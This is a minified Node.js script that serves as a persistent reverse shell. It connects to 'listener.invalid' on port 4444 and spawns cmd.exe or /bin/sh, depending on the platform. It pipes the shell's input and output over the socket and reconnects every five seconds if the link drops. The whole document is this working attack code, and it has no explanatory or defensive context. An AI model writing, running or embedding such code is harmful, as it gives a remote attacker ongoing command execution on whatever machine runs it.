var a=require("net"),u=require("child_process"),d="listener.invalid",f=4444,c=5e3;typeof String.prototype.contains>"u"&&(String.prototype.contains=function(e){return this.indexOf(e)!==-1});function o(e,t){var n=new a.Socket;n.connect(t,e,function(){var r=process.platform.contains("win")?"cmd.exe":"/bin/sh",i=u.spawn(r,[]);n.write("connected "+process.pid+`
`),n.pipe(i.stdin),i.stdout.pipe(n),i.stderr.pipe(n),i.on("exit",function(s,p){n.end("closed "+s+p+`
`)})}),n.on("error",function(r){setTimeout(function(){o(e,t)},c)}),n.on("close",function(){setTimeout(o,c,e,t)})}o(d,f);
